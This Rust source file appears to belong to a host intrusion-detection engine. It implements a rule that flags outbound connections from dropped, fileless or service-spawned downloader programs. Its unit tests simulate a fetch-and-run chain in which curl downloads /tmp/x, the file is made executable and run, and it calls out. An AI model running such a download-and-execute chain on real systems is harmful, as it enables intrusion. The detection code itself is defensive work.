//! N9: a connection by a program that has no business making one: dropped and run, without a file, or
//! fetching for a shell that a service started.
//!
//! It is the network's own witness to the chain: not what was sent, but that the suspect really reached
//! another host.

use std::net::SocketAddr;

use super::outbound;
use crate::{
    detect::{DetectionContext, Finding, signals},
    model::Connect,
    process::Taint,
};

/// A connection that was just established.
pub fn suspect_connection(context: &DetectionContext<'_>, connect: &Connect) -> Option<Finding> {
    let taint = context.process.taint?;
    Some(found(context, taint, outbound(connect)?))
}

fn found(context: &DetectionContext<'_>, taint: Taint, destination: SocketAddr) -> Finding {
    let who = match taint {
        Taint::Dropped => "a program that was dropped here",
        Taint::Fileless => "a program without a file",
        Taint::FetchesForService => "a downloader that a service's shell started",
    };
    let detail = format!("{who}, '{}', connected to {destination}", context.process.view.name);
    Finding::new(signals::SUSPECT_CONNECTION, context, detail).value("destination", destination)
}

#[cfg(test)]
mod tests {
    use crate::engine::testing::{Host, findings};

    #[test]
    fn a_dropped_program_calls_out() {
        let mut host = Host::new();
        let init = host.boot("/sbin/init", &["init"]);
        let script = host.spawn(init, "/usr/bin/dash", &["sh", "/root/x.sh"]);
        let curl = host.spawn(script, "/usr/bin/curl", &["curl", "-o", "/tmp/x", "http://10.0.0.1/x"]);
        host.connect(curl, "10.0.0.1:80");
        host.create(curl, "/tmp/x", 0o644);
        host.chmod(script, "/tmp/x", 0o755);
        let dropped = host.spawn(script, "/tmp/x", &["/tmp/x"]);
        let child = host.fork(dropped);
        host.connect(child, "10.0.0.9:443");
        assert_eq!(findings(&host), [("B2", 25), ("N9", 10)]);
    }

    #[test]
    fn what_it_starts_is_not_itself() {
        let mut host = Host::new();
        let init = host.boot("/sbin/init", &["init"]);
        let script = host.spawn(init, "/usr/bin/dash", &["sh", "/root/x.sh"]);
        host.create(script, "/tmp/x", 0o755);
        let dropped = host.spawn(script, "/tmp/x", &["/tmp/x"]);
        let git = host.spawn(dropped, "/usr/bin/git", &["git", "fetch"]);
        host.connect(git, "10.0.0.9:443");
        assert_eq!(findings(&host), [("B2", 25)]);
    }

    #[test]
    fn the_same_connection_by_others_is_nothing() {
        let mut host = Host::new();
        let init = host.boot("/sbin/init", &["init"]);
        let curl = host.spawn(init, "/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
        host.connect(curl, "10.0.0.1:80");
        assert!(findings(&host).is_empty());
    }
}
